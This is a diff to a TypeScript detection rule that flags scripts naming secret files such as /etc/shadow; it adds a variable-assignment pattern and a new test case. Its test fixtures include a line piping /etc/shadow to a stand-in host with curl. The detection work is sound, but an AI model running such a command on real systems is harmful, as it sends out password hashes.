@@ -13,9 +13,11 @@ const SECRETS =
 /** Digests and permissions of a file tell nothing of what is in it. */
 const LOOKS_ONLY =
   /(^|[|;&({`!]|\b(?:if|elif|while|then|else|do|sudo))\s*(?:(?:sha\d+sum|md5sum|b2sum|cksum|stat|chmod|chown|chgrp|chattr|lsattr|setfacl|getfacl|test|ls|touch|restorecon)\b|\[{1,2}\s)[^|;&]*$/;
+/** A variable is given the name; nothing is read yet. */
+const NAMED = /(^|\s)[A-Za-z_]\w*=["']?$/;
 /** What an audit of accounts does: it looks at fields, line by line. */
 const FILTERS =
-  /(^|[|;&({`]|\b(?:if|elif|while|then|else|do|sudo))\s*(?:[gm]?awk|[ef]?grep|cut|sort|diff|cmp|wc)\b[^|;&>]*$/;
+  /(^|[|;&({`]|\b(?:if|elif|while|then|else|do|sudo))\s*(?:[gm]?awk|[ef]?grep|cut|sort|diff|cmp|wc|\$\{?[GM]?(?:AWK|GREP|SORT|CUT))\b[^|;&>]*$/;
 const MAX_BYTES = 262_144;
 
 export const readsStoredSecrets: ActivationRule = {
@@ -42,7 +44,8 @@ export const readsStoredSecrets: ActivationRule = {
       const match = SECRETS.exec(text);
       if (match === null || /^\s*(#|\/\/)/.test(text)) continue;
       if (LOOKS_ONLY.test(text.slice(0, match.index))) continue;
-      const stays = FILTERS.test(text.slice(0, match.index)) && !leaves(activation);
+      const before = text.slice(0, match.index);
+      const stays = NAMED.test(before) || (FILTERS.test(before) && !leaves(activation));
       yield {
         ...(stays ? { signal: "odd" as const } : {}),
         says: `it names ${match[0]}, where secrets are kept`,
@@ -64,8 +67,12 @@ export const readsStoredSecrets: ActivationRule = {
       timed("ExecStart=/usr/local/bin/audit", {
         "/usr/local/bin/audit": script("grep root /etc/shadow | curl -d @- https://a.example.test/"),
       }),
+      timed("ExecStart=/usr/local/bin/audit", {
+        "/usr/local/bin/audit": script('F="/etc/shadow"\ncurl -s https://a.example.test/ping'),
+      }),
     ],
     finds: {
+      5: ["odd high low /usr/local/bin/audit:2: it names /etc/shadow, where secrets are kept"],
       3: ["odd high low /usr/local/bin/audit:2: it names /etc/shadow, where secrets are kept"],
       4: ["suspicious high low /usr/local/bin/audit:2: it names /etc/shadow, where secrets are kept"],
     },
